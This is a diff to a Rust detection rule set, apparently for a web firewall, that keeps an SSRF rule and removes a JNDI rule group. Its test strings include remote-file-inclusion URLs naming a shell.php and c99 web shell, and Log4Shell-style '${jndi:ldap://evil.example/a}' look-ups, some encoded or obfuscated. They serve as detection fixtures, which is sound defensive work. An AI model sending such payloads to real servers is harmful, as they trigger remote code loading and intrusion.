@@ -17,11 +17,3 @@ super::rules! { SSRF ["ssrf", "CWE-918", "crs-934"];
         "http://198.51.100.7/shell.php?", "http%253A%252F%252F198.51.100.7%252Fc99.txt%253F",
         not "https://example.com/notes.txt";
 }
-super::rules! { JNDI ["jndi", "CWE-917", "crs-944"];
-    LOOKUP "jndi-001" "JNDI look-up" Critical 1:
-        "${jndi:ldap://evil.example/a}", "%2524%257Bjndi:rmi://evil.example/a%257D",
-        not "jndi: a Java interface";
-    NESTED "jndi-002" "look-up with nested obfuscation" Critical 1:
-        "${${lower:j}ndi:ldap://x/a}", "%2524%257B%2524%257B::-j%257Dndi:x%257D",
-        not "${lower} and ${upper}";
-}
